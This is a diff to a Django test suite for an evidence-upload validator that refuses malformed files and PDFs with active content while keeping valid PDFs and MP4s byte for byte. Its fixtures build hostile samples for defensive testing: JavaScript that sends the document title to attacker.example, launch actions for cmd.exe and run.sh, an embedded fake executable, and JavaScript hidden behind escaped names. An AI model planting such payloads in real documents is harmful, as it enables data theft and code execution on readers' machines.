@@ -2,8 +2,11 @@
 
 A refused file leaves no trace: no attachment, no timeline event, not a byte on disk, and the evidence already
 stored is untouched. An accepted file lands under a generated hex name in MEDIA_ROOT/evidence with a cleaned
-display name; JPEG and PNG images are kept re-encoded without their metadata, and the size and SHA-256 recorded
-are those of the bytes on disk. The files are real ones, built here; names travel on the wire exactly as given.
+display name; JPEG and PNG images are kept re-encoded without their metadata, PDF and MP4 files byte for byte once
+their structure proved them (a PDF opens strictly, has pages, ends at %%EOF and has no JavaScript, launch action,
+embedded file, rich media or XFA form; an MP4's boxes cover the file exactly, with a movie header), and the size
+and SHA-256 recorded are those of the bytes on disk. The files are real ones, built here; names travel on the wire
+exactly as given.
 """
 
 import functools
@@ -29,6 +32,9 @@ from django.template.defaultfilters import filesizeformat
 from django.urls import reverse
 from django.utils.html import escape
 from PIL import ExifTags, Image, ImageCms, PngImagePlugin
+from pypdf import PdfReader
+from pypdf.actions import JavaScript
+from pypdf.generic import NameObject, TextStringObject
 from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
@@ -36,6 +42,20 @@ from cases import services
 from cases.api import evidence
 from cases.choices import CaseStatus
 from cases.models import Attachment, Case, CaseEvent
+from tests.evidence_files import (
+    ONE_PAGE,
+    box,
+    ftyp,
+    mp4_video,
+    mvhd,
+    pdf_document,
+    pdf_with_compressed_objects,
+    pdf_with_open_action,
+    pdf_writer,
+    raw_pdf,
+    raw_pdf_with_catalog,
+    written,
+)
 from tests.factories import World, case_in
 
 BOUNDARY = "RightsGuardCorpusBoundary"
@@ -47,6 +67,25 @@ EMPTY = "The submitted file is empty."  # Django's and DRF's own check, before t
 UNREADABLE = "The image could not be read completely; it may be damaged or truncated."
 TOO_MANY_PIXELS = "The image has too many pixels; at most 60,000,000 pixels are accepted."
 ANIMATED = "Animated PNG images are not accepted; upload a recording as an MP4 video."
+PDF_UNREADABLE = "The PDF file could not be read completely; it may be damaged or truncated."
+PDF_UNENDED = "The PDF file does not end with its end-of-file marker; it may be truncated or have data appended."
+PDF_NO_PAGES = "The PDF file has no pages."
+PDF_PASSWORD = "The PDF file is protected by a password; remove the password and upload it again."
+PDF_JAVASCRIPT = (
+    "The PDF file contains JavaScript, which is not accepted; print it to a new PDF and upload that instead."
+)
+PDF_LAUNCH = (
+    "The PDF file contains an action that starts another program, which is not accepted; print it to a new PDF "
+    "and upload that instead."
+)
+PDF_EMBEDDED = "The PDF file contains embedded files, which are not accepted; upload each file on its own instead."
+PDF_RICH_MEDIA = (
+    "The PDF file contains rich media (Flash, video or 3D content), which is not accepted; print it to a new PDF "
+    "and upload that instead."
+)
+PDF_XFA = "The PDF file contains an XFA form, which is not accepted; print it to a new PDF and upload that instead."
+MP4_BROKEN = "The video could not be read as an MP4 file; it may be damaged, truncated or have other data appended."
+MP4_NO_MOVIE = "The MP4 file has no movie header, so it cannot be played; it may be a recording that was not finished."
 # What Pillow writes for a JPEG without metadata: the JFIF header and nothing else.
 BARE_JPEG_INFO = {"jfif": 257, "jfif_version": (1, 1), "jfif_unit": 0, "jfif_density": (1, 1)}
 HEX = frozenset("0123456789abcdef")
@@ -55,10 +94,10 @@ HEX = frozenset("0123456789abcdef")
 # --- the corpus -------------------------------------------------------------------------------------------------
 
 
+@functools.cache
 def pdf(size: int) -> bytes:
-    """A PDF of exactly ``size`` bytes (PDFs are stored as received)."""
-    head, tail = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b"\n%%EOF\n"
-    return head + b"%" * (size - len(head) - len(tail)) + tail
+    """A valid PDF of exactly ``size`` bytes (PDFs are stored as received)."""
+    return pdf_document(size)
 
 
 def halves(size: tuple[int, int] = (64, 48)) -> Image.Image:
@@ -200,6 +239,48 @@ SVG = (
 )
 
 
+PDF = pdf_document()
+SCRIPT = TextStringObject("app.launchURL('https://attacker.example/?' + this.info.Title, true);")
+
+
+def pdf_names_javascript() -> bytes:
+    """Document-level JavaScript in the catalog's names tree, as pypdf's add_open_action writes it."""
+    writer = pdf_writer()
+    writer.add_open_action(JavaScript(str(SCRIPT)))
+    return written(writer)
+
+
+def pdf_embedded_file() -> bytes:
+    writer = pdf_writer()
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00" + bytes(60))
+    return written(writer)
+
+
+def pdf_password_protected() -> bytes:
+    writer = pdf_writer()
+    writer.encrypt("secret", algorithm="AES-256")
+    return written(writer)
+
+
+def pdf_with_page(page_extra: bytes, *more: bytes) -> bytes:
+    """A one-page PDF whose page has ``page_extra`` entries; ``more`` are objects 4, 5, …"""
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        ONE_PAGE[0],
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
+        *more,
+    )
+
+
+def mp4_with_sizes_past_the_end() -> bytes:
+    """The media box claims 1000 bytes more than the file holds."""
+    video = bytearray(mp4_video())
+    at = video.index(b"mdat") - 4
+    (size,) = struct.unpack(">I", video[at : at + 4])
+    video[at : at + 4] = struct.pack(">I", size + 1000)
+    return bytes(video)
+
+
 class Refusal(NamedTuple):
     label: str
     build: Callable[[], bytes]
@@ -266,6 +347,168 @@ REFUSED = [
         "image_too_large",
     ),
     Refusal("animated-png", animated_png, "clip.png", "image/png", ANIMATED, "image_animated"),
+    # PDFs: the first bytes are not enough, the file must parse strictly and carry no active content.
+    Refusal(
+        "pdf-header-then-html",
+        lambda: b"%PDF-1.7\n" + HTML,
+        "report.pdf",
+        "application/pdf",
+        PDF_UNENDED,
+        "pdf_invalid",
+    ),
+    Refusal(
+        "pdf-header-then-html-then-eof",
+        lambda: b"%PDF-1.7\n" + HTML + b"\n%%EOF\n",
+        "report.pdf",
+        "application/pdf",
+        PDF_UNREADABLE,
+        "pdf_invalid",
+    ),
+    Refusal("pdf-then-html", lambda: PDF + HTML, "report.pdf", "application/pdf", PDF_UNENDED, "pdf_invalid"),
+    Refusal("pdf-truncated", lambda: PDF[: len(PDF) // 2], "report.pdf", "application/pdf", PDF_UNENDED, "pdf_invalid"),
+    Refusal(
+        "pdf-truncated-with-eof-marker",
+        lambda: PDF[: len(PDF) // 2] + b"\n%%EOF\n",
+        "report.pdf",
+        "application/pdf",
+        PDF_UNREADABLE,
+        "pdf_invalid",
+    ),
+    Refusal(
+        "pdf-without-pages",
+        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_NO_PAGES,
+        "pdf_invalid",
+    ),
+    Refusal(
+        "pdf-with-password", pdf_password_protected, "report.pdf", "application/pdf", PDF_PASSWORD, "pdf_encrypted"
+    ),
+    Refusal(
+        "pdf-open-action-javascript",
+        lambda: pdf_with_open_action({"/S": NameObject("/JavaScript"), "/JS": SCRIPT}),
+        "report.pdf",
+        "application/pdf",
+        PDF_JAVASCRIPT,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-names-tree-javascript",
+        pdf_names_javascript,
+        "report.pdf",
+        "application/pdf",
+        PDF_JAVASCRIPT,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-javascript-behind-escaped-names",
+        lambda: raw_pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_JAVASCRIPT,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-javascript-in-compressed-object-stream",
+        lambda: pdf_with_compressed_objects(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_JAVASCRIPT,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-page-open-javascript",
+        lambda: pdf_with_page(b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_JAVASCRIPT,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-launch-action",
+        lambda: pdf_with_open_action({"/S": NameObject("/Launch"), "/F": TextStringObject("C:\\Windows\\cmd.exe")}),
+        "report.pdf",
+        "application/pdf",
+        PDF_LAUNCH,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-launch-in-link",
+        lambda: pdf_with_page(
+            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (run.sh) >> >>]"
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_LAUNCH,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-embedded-file", pdf_embedded_file, "report.pdf", "application/pdf", PDF_EMBEDDED, "pdf_active_content"
+    ),
+    Refusal(
+        "pdf-rich-media",
+        lambda: pdf_with_page(b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]"),
+        "report.pdf",
+        "application/pdf",
+        PDF_RICH_MEDIA,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-xfa-form",
+        lambda: raw_pdf_with_catalog(
+            b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_XFA,
+        "pdf_active_content",
+    ),
+    # MP4: the boxes must cover the file exactly, with a movie.
+    Refusal("mp4-box-past-the-end", mp4_with_sizes_past_the_end, "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
+    Refusal("mp4-truncated", lambda: mp4_video()[:-10], "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
+    Refusal(
+        "mp4-trailing-garbage",
+        lambda: mp4_video() + b"\x00garbage",
+        "bodycam.mp4",
+        "video/mp4",
+        MP4_BROKEN,
+        "mp4_invalid",
+    ),
+    Refusal("mp4-then-html", lambda: mp4_video() + HTML, "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
+    Refusal("mp4-ftyp-then-html", lambda: ftyp() + HTML, "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
+    Refusal(
+        "mp4-box-smaller-than-its-header",
+        lambda: ftyp() + struct.pack(">I4s", 4, b"free") + box(b"moov", mvhd()),
+        "bodycam.mp4",
+        "video/mp4",
+        MP4_BROKEN,
+        "mp4_invalid",
+    ),
+    Refusal(
+        "mp4-movie-child-past-the-movie",
+        lambda: ftyp() + box(b"moov", mvhd()[:-4]) + box(b"mdat", b"x" * 16),
+        "bodycam.mp4",
+        "video/mp4",
+        MP4_BROKEN,
+        "mp4_invalid",
+    ),
+    Refusal(
+        "mp4-without-movie",
+        lambda: ftyp() + box(b"mdat", b"x" * 64),
+        "bodycam.mp4",
+        "video/mp4",
+        MP4_NO_MOVIE,
+        "mp4_invalid",
+    ),
+    Refusal(
+        "mp4-movie-without-header",
+        lambda: ftyp() + box(b"moov", box(b"trak", box(b"tkhd", bytes(84)))) + box(b"mdat", b"x" * 64),
+        "bodycam.mp4",
+        "video/mp4",
+        MP4_NO_MOVIE,
+        "mp4_invalid",
+    ),
 ]
 
 
@@ -474,7 +717,7 @@ def test_the_evidence_a_case_may_hold_is_capped(channel, case, media, settings):
     channel.assert_accepted(channel.send(pdf(1000), "second.pdf"))
     before = trace(case, media)
     channel.assert_refused(
-        channel.send(pdf(20), "third.pdf"),
+        channel.send(pdf(500), "third.pdf"),
         "This case already holds 2.9\xa0KB of evidence; the limit per case is 2.9\xa0KB.",
     )
     assert trace(case, media) == before
@@ -605,6 +848,95 @@ def test_an_archive_hidden_behind_a_jpeg_is_cut_off(channel, case, media):
     content = assert_stored_as_recorded(attachment, media)
     assert b"PK\x03\x04" not in content
     assert content == reencoded_jpeg(JPEG)
+
+
+@functools.cache
+def weasyprint_report() -> bytes:
+    """A PDF as the project's own reports are written: fonts, compressed streams, a web link."""
+    import weasyprint  # slow to import; only this test needs it
+
+    html = (
+        "<h1>Medical report</h1><p>诊断证明: bruising to the left forearm. <a href='https://example.org/'>Ref.</a></p>"
+    )
+    return weasyprint.HTML(string=html).write_pdf()
+
+
+def pdf_with_owner_password_only() -> bytes:
+    """Encrypted, but opened without a password (printing and copying restricted): common for bank statements."""
+    writer = pdf_writer(pages=2)
+    writer.encrypt("", "owner-secret", algorithm="AES-128")
+    return written(writer)
+
+
+ACCEPTED_PDFS = [
+    pytest.param(lambda: pdf_document(pages=3), 3, id="pypdf-three-pages"),
+    pytest.param(weasyprint_report, 1, id="weasyprint-report-with-link"),
+    pytest.param(lambda: pdf_with_compressed_objects(b""), 1, id="compressed-object-streams"),
+    pytest.param(pdf_with_owner_password_only, 2, id="owner-password-only"),
+    pytest.param(
+        lambda: pdf_with_page(
+            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
+            b"/A << /S /URI /URI (https://example.org/) >> >>]"
+        ),
+        1,
+        id="web-link",
+    ),
+]
+
+
+@pytest.mark.parametrize(("build", "pages"), ACCEPTED_PDFS)
+def test_a_real_pdf_is_kept_byte_for_byte(channel, case, media, build, pages):
+    document = build()
+    attachment = channel.assert_accepted(channel.send(document, "诊断证明.pdf", "application/pdf"))
+    content = assert_stored_as_recorded(attachment, media)
+    assert (content, attachment.content_type, attachment.original_name) == (document, "application/pdf", "诊断证明.pdf")
+    assert len(PdfReader(io.BytesIO(content), strict=True).pages) == pages
+    assert CaseEvent.objects.filter(case=case, kind="attachment").count() == 1
+
+
+def fragmented_mp4() -> bytes:
+    """A fragmented recording: the movie announces fragments, each a moof with its own media data."""
+    fragment = box(b"moof", box(b"mfhd", bytes(8)) + box(b"traf", box(b"tfhd", bytes(8)))) + box(b"mdat", b"v" * 32)
+    return ftyp(b"iso6") + box(b"moov", mvhd() + box(b"mvex", box(b"trex", bytes(24)))) + fragment + fragment
+
+
+ACCEPTED_MP4S = [
+    pytest.param(mp4_video, id="ftyp-isom-moov-mdat"),
+    pytest.param(lambda: ftyp(b"mp42") + box(b"moov", mvhd()) + box(b"mdat", b"v" * 40, large=True), id="64-bit-size"),
+    pytest.param(lambda: ftyp() + box(b"moov", mvhd()) + b"\x00\x00\x00\x00mdat" + b"v" * 40, id="last-box-to-end"),
+    pytest.param(
+        lambda: (
+            ftyp() + box(b"free", bytes(16)) + box(b"mdat", b"v" * 40) + box(b"moov", mvhd()) + box(b"uuid", bytes(16))
+        ),
+        id="movie-after-media-with-free-and-uuid",
+    ),
+    pytest.param(fragmented_mp4, id="fragmented"),
+]
+
+
+@pytest.mark.parametrize("build", ACCEPTED_MP4S)
+def test_a_real_mp4_is_kept_byte_for_byte(channel, case, media, build):
+    video = build()
+    attachment = channel.assert_accepted(channel.send(video, "bodycam.mp4", "video/mp4"))
+    content = assert_stored_as_recorded(attachment, media)
+    assert (content, attachment.content_type, attachment.original_name) == (video, "video/mp4", "bodycam.mp4")
+    assert CaseEvent.objects.filter(case=case, kind="attachment").count() == 1
+
+
+def test_every_kind_of_active_content_in_one_pdf_is_named(case, media):
+    document = raw_pdf_with_catalog(
+        b"/OpenAction << /S /Launch /F (cmd.exe) /Next << /S /JavaScript /JS (app.alert(1)) >> >> "
+        b"/AcroForm << /Fields [] /XFA (<xdp/>) >> /Names << /EmbeddedFiles << /Names [] >> >>"
+    )
+    with pytest.raises(ValidationError) as refused:
+        evidence.validate_and_store(SimpleUploadedFile("report.pdf", document), case=case)
+    assert [(e.code, e.message) for e in refused.value.error_dict["file"]] == [
+        ("pdf_active_content", PDF_JAVASCRIPT),
+        ("pdf_active_content", PDF_LAUNCH),
+        ("pdf_active_content", PDF_EMBEDDED),
+        ("pdf_active_content", PDF_XFA),
+    ]
+    assert disk(media) == {}
 
 
 def test_the_defaults_are_500_mib_per_case_and_60_megapixels(settings):
